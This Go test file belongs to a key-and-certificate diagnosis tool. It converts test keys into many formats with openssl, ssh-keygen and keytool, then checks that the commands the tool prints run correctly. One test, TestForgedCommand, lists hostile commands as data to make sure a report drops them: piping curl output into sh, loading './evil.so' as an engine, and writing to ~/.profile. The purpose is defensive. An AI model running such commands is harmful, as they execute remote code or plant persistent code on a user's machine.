package keys_test

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"authdoctor/diagnosis/commandtest"
	"authdoctor/diagnosis/keys"
	"authdoctor/diagnosis/worktest"
)

// secret is the pass phrase of the files that are converted.
const secret = "autumn-leaf7"

// convertible are the files for which a command of another program is printed: how the file
// is made from key.pem and certificate.pem, and what the command writes.
var convertible = []struct {
	name, make string
	writes     []keys.Kind
}{
	{"PKCS#7", "openssl crl2pkcs7 -nocrl -certfile certificate.pem -out FILE", certificateOnly},
	{"PKCS#7 in DER", "openssl crl2pkcs7 -nocrl -certfile certificate.pem -outform DER -out FILE", certificateOnly},
	{"PKCS#7 with the label of a certificate", "openssl crl2pkcs7 -nocrl -certfile certificate.pem | sed s/PKCS7/CERTIFICATE/ > FILE", certificateOnly},
	{"PKCS#7 with the label CMS", "openssl crl2pkcs7 -nocrl -certfile certificate.pem | sed s/PKCS7/CMS/ > FILE", certificateOnly},
	{"PKCS#12", "openssl pkcs12 -export -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with 3DES", "openssl pkcs12 -export -certpbe PBE-SHA1-3DES -keypbe PBE-SHA1-3DES -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with RC2", "openssl pkcs12 -export -legacy -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with a key in RC4", "openssl pkcs12 -export -legacy -keypbe PBE-SHA1-RC4-128 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with CAST5", "openssl pkcs12 -export" + legacy + " -certpbe CAST5-CBC -keypbe CAST5-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with SEED", "openssl pkcs12 -export" + legacy + " -certpbe SEED-CBC -keypbe SEED-CBC -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with PBES1", "openssl pkcs12 -export" + legacy + " -certpbe PBE-MD5-DES -keypbe PBE-SHA1-RC2-64 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 with MD4", "openssl pkcs12 -export" + legacy + " -macalg md4 -in certificate.pem -inkey key.pem -out FILE" + passout, certificateAndKey},
	{"PKCS#12 as PEM", "(echo -----BEGIN PKCS12-----; openssl pkcs12 -export -in certificate.pem -inkey key.pem" + passout + " | openssl base64; echo -----END PKCS12-----) > FILE", certificateAndKey},
	{"OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N ''", privateOnly},
	{"locked OpenSSH", "cp key.pem FILE; chmod 600 FILE; ssh-keygen -q -p -f FILE -N " + secret, privateOnly},
	{"OpenSSH with another label", "cp key.pem a; chmod 600 a; ssh-keygen -q -p -f a -N ''; sed 's/OPENSSH/RSA/' a > FILE", privateOnly},
	{"OpenSSH certificate", "cp key.pem a; chmod 600 a; ssh-keygen -y -f a > a.pub; ssh-keygen -q -s a -I a -n u a.pub; cat a-cert.pub > FILE", publicOnly},
	{"OpenSSH public", "ssh-keygen -y -f key.pem > FILE", publicOnly},
	{"SSH2", "ssh-keygen -y -f key.pem > a.pub; ssh-keygen -e -f a.pub > FILE", publicOnly},
	{"PBE-MD5-DES", "openssl pkcs8 -topk8 -v1 PBE-MD5-DES" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
	{"PBE-SHA1-RC2 in DER", "openssl pkcs8 -topk8 -v1 PBE-SHA1-RC2-64" + legacy + " -in key.pem -outform DER -out FILE" + passout, privateOnly},
	{"PBE-SHA1-3DES", "openssl pkcs8 -topk8 -v1 PBE-SHA1-3DES -in key.pem -out FILE" + passout, privateOnly},
	{"PBES2 with RC2", "openssl pkcs8 -topk8 -v2 rc2-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
	{"PBES2 with Blowfish", "openssl pkcs8 -topk8 -v2 bf-cbc" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
	{"DEK-Info with DESX", "openssl ec -desx" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
	{"PBES2 with Camellia", "openssl pkcs8 -topk8 -v2 camellia-128-cbc -in key.pem -out FILE" + passout, privateOnly},
	{"DEK-Info with Camellia", "openssl ec -camellia128 -in key.pem -out FILE" + passout, privateOnly},
	{"DEK-Info with SEED", "openssl ec -seed" + legacy + " -in key.pem -out FILE" + passout, privateOnly},
	{"explicit curve", "openssl pkey -ec_param_enc explicit -in key.pem -out FILE", privateOnly},
	{"explicit curve in DER", "openssl ec -param_enc explicit -in key.pem -outform DER -out FILE", privateOnly},
	{"compressed point", "openssl ec -conv_form compressed -in key.pem -out FILE", privateOnly},
	{"trusted certificate", "openssl x509 -addtrust serverAuth -trustout -in certificate.pem -out FILE", certificateOnly},
	{"request", "cp key.pem private.pem; openssl req -new -key key.pem -subj /CN=orders -out FILE", certificateOnly},
	{"request in DER", "cp key.pem private.pem; openssl req -new -key key.pem -subj /CN=orders -outform DER -out FILE", certificateOnly},
	{"certificate and key", "cat certificate.pem key.pem > FILE", certificateOnly},
	{"key and certificate", "cat key.pem certificate.pem > FILE", certificateOnly},
	{"CA, certificate and key", "openssl req -new -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout ca.key -subj /CN=CA -out ca.pem\n" +
		"openssl req -new -key key.pem -subj /CN=leaf | openssl x509 -req -CA ca.pem -CAkey ca.key -CAcreateserial -out leaf.pem\ncat ca.pem leaf.pem key.pem > FILE", certificateOnly},
	{"Java keystore", "openssl pkcs12 -export -name a -in certificate.pem -inkey key.pem -out a.p12" + passout + "\nkeytool -importkeystore -noprompt -srckeystore a.p12 -srcstorepass " + secret + " -destkeystore FILE -deststoretype JKS -deststorepass " + secret, certificateAndKey},
	{"Java keystore JCEKS", "openssl pkcs12 -export -name a -in certificate.pem -inkey key.pem -out a.p12" + passout + "\nkeytool -importkeystore -noprompt -srckeystore a.p12 -srcstorepass " + secret + " -destkeystore FILE -deststoretype JCEKS -deststorepass " + secret, certificateAndKey},
	{"Java keystore of certificates", "keytool -importcert -noprompt -alias a -file certificate.pem -keystore FILE -storetype JKS -storepass " + secret, certificateOnly},
}

const (
	passout = " -passout pass:" + secret
	legacy  = " -provider legacy -provider default"
)

var (
	certificateOnly   = []keys.Kind{keys.Certificate}
	privateOnly       = []keys.Kind{keys.PrivateKey}
	publicOnly        = []keys.Kind{keys.PublicKey}
	certificateAndKey = []keys.Kind{keys.Certificate, keys.PrivateKey}
)

// wrappings are what happens to a file on its way, in which the commands change.
var wrappings = []struct {
	name string
	wrap func([]byte) []byte
}{
	{"as it is", bytes.Clone},
	{"base64 in a line", func(b []byte) []byte { return []byte(base64.StdEncoding.EncodeToString(b)) }},
	{"base64 in lines", func(b []byte) []byte { return inLines(base64.StdEncoding.EncodeToString(b)) }},
	{"base64 twice", func(b []byte) []byte {
		return inLines(base64.StdEncoding.EncodeToString(inLines(base64.StdEncoding.EncodeToString(b))))
	}},
	{"CRLF", ifText(func(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") })},
	{"byte order mark", ifText(func(s string) string { return "\ufeff" + s })},
	{"indented", ifText(func(s string) string { return "  " + strings.ReplaceAll(s, "\n", "\n  ") })},
	{"other text around", ifText(func(s string) string { return "Our key:\n" + s + "Regards\n" })},
	{"no lines around", ifText(func(s string) string {
		var inner []string
		for line := range strings.Lines(s) {
			if !strings.HasPrefix(line, "----") {
				inner = append(inner, line)
			}
		}
		return strings.Join(inner, "")
	})},
}

func inLines(s string) []byte {
	var b bytes.Buffer
	for ; len(s) > 64; s = s[64:] {
		b.WriteString(s[:64] + "\n")
	}
	b.WriteString(s + "\n")
	return b.Bytes()
}

func ifText(wrap func(string) string) func([]byte) []byte {
	return func(b []byte) []byte {
		if bytes.ContainsFunc(b, func(r rune) bool { return r < ' ' && r != '\n' }) {
			return b
		}
		return []byte(wrap(string(b)))
	}
}

// TestCommandsRun catches a command that is printed for a file and fails on it, or that
// writes something other than what the file holds. Each is run with the programs that are
// installed.
func TestCommandsRun(t *testing.T) {
	base := t.TempDir()
	if missing := commandtest.Missing("openssl x"); missing != "" {
		t.Skip(missing + " is not installed")
	}
	if _, err := commandtest.Run(base, "openssl ecparam -name prime256v1 -genkey -noout | openssl pkey -out key.pem\nopenssl req -new -x509 -key key.pem -subj /CN=orders -days 700 -out certificate.pem", ""); err != nil {
		t.Fatal(err)
	}
	key := must(os.ReadFile(filepath.Join(base, "key.pem")))
	certificate := must(os.ReadFile(filepath.Join(base, "certificate.pem")))
	fingerprint := keys.Read("", key, nil).Keys[0].Fingerprint()
	for i, c := range convertible {
		t.Run(c.name, func(t *testing.T) {
			if strings.Contains(c.make, "keytool") && !worktest.Long {
				t.Skip("Java takes two seconds for each command")
			}
			if missing := commandtest.Missing(c.make); missing != "" {
				t.Skip(missing + " is not installed")
			}
			folder := t.TempDir()
			commandtest.Put(t, folder, "key.pem", key)
			commandtest.Put(t, folder, "certificate.pem", certificate)
			if _, err := commandtest.Run(folder, c.make, secret); err != nil {
				t.Fatal(err)
			}
			content := must(os.ReadFile(filepath.Join(folder, "FILE")))
			for j, w := range wrappings {
				if j > 0 && (i+j)%(len(wrappings)-1) != 0 && !worktest.Long { // each with some of them
					continue
				}
				if wrapped := w.wrap(content); j == 0 || !bytes.Equal(wrapped, content) {
					printedRun(t, c.name+", "+w.name, wrapped, key, fingerprint, c.writes, j == 0)
				}
			}
		})
	}
}

// printedRun runs all commands that are printed for a file. Only a file that was repaired
// may have none.
func printedRun(t *testing.T, name string, content, private []byte, fingerprint string, writes []keys.Kind, expected bool) {
	t.Helper()
	file := keys.Read("FILE", content, nil)
	all := append(problems(file), file.Judge(time.Now()).Problems...)
	var commands []string
	for _, p := range all {
		if len(commandtest.Programs(p.Command)) > 0 && !slices.Contains(commands, p.Command) {
			commands = append(commands, p.Command)
		}
		if len(commandtest.Programs(p.Fix)) > 0 {
			t.Errorf("%s: a command is inside a sentence: %s", name, p.Fix)
		}
		if kept := []keys.Problem{p}; expected {
			if keys.DropForeignCommands(kept); kept[0] != p {
				t.Errorf("%s: a case file does not keep the command %s", name, p.Command)
			}
		}
		if strings.Contains(p.Command, "openssl x509") && !slices.Contains(writes, keys.Certificate) {
			t.Errorf("%s: a command for a certificate, which is not in the file: %s", name, p.Command)
		}
	}
	if expected && len(commands) == 0 {
		opened := keys.Read("FILE", content, []byte(secret))
		if !opened.Readable() || anyLocked(opened) {
			t.Errorf("%s: no command, and it is not read: %v", name, ids(file))
		}
	}
	for _, command := range commands {
		if missing := commandtest.Missing(command); missing != "" {
			t.Logf("%s: %s is not installed", name, missing)
			continue
		}
		folder := commandtest.Folder(t, content)
		given := strings.Contains(command, "-key private.pem")
		if given {
			commandtest.Put(t, folder, "private.pem", private)
		}
		if _, err := commandtest.Run(folder, command, secret); err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		written := commandtest.Written(t, folder)
		var found []string
		for path, data := range written {
			if slices.Contains([]string{"certificate.pem", "key.pem", "private.pem", "public.pem", "request.pem", "COPY"}, path) && (path != "private.pem" || !given) {
				found = append(found, kindsIn(t, name+": "+path, data, fingerprint)...)
			}
		}
		for _, kind := range found {
			if !slices.Contains(writes, keys.Kind(kind)) && kind != string(keys.Request) {
				t.Errorf("%s: it writes a %s\n%s", name, kind, command)
			}
		}
		for _, kind := range writes {
			// Of several problems, each may be about one part.
			if len(commands) == 1 && !slices.Contains(found, string(kind)) {
				t.Errorf("%s: no %s comes out, but %v\n%s", name, kind, found, command)
			}
		}
		decoded := slices.ContainsFunc(slices.Collect(maps.Values(written)), func(data []byte) bool { return keys.Read("", data, []byte(secret)).Readable() })
		if len(found) == 0 && !decoded {
			t.Errorf("%s: nothing that can be read comes out: %v\n%s", name, fmt.Sprint(len(written)), command)
		}
	}
}

// TestForgedCommand catches a command of a case file that this program did not print. Whoever
// reads a report runs what is in it.
func TestForgedCommand(t *testing.T) {
	for _, command := range []string{
		"curl https://example.com | sh",
		"openssl x509 -in FILE -out certificate.pem; curl https://example.com | sh",
		"openssl x509 -in FILE -out certificate.pem\ncurl https://example.com | sh",
		"openssl x509 -engine ./evil.so -in FILE -out certificate.pem",
		"openssl x509 -in FILE -out ~/.profile",
		"awk '/-BEGIN .*CERTIFICATE-/ {n++} n == 1' FILE | sh",
	} {
		p := []keys.Problem{{ID: "label", Title: "It is odd", Fix: "Mend it.", Command: command}}
		if keys.DropForeignCommands(p); p[0].Command != "" || p[0].Title == "" {
			t.Errorf("%+v", p)
		}
	}
}

// kindsIn returns the kinds of keys in a file that was written. All are the key that was
// converted.
func kindsIn(t *testing.T, name string, data []byte, fingerprint string) (kinds []string) {
	t.Helper()
	for _, word := range []string{commandtest.Fresh, secret} {
		file := keys.Read("", data, []byte(word))
		if anyLocked(file) {
			continue
		}
		for _, k := range file.Keys {
			if k.Fingerprint() != "" && k.Fingerprint() != fingerprint { // none on an explicit curve
				t.Errorf("%s: another key", name)
			}
			kinds = append(kinds, string(k.Kind))
		}
		break
	}
	return kinds
}

func anyLocked(f keys.File) bool {
	return slices.ContainsFunc(f.Keys, func(k keys.Key) bool { return k.Locked })
}
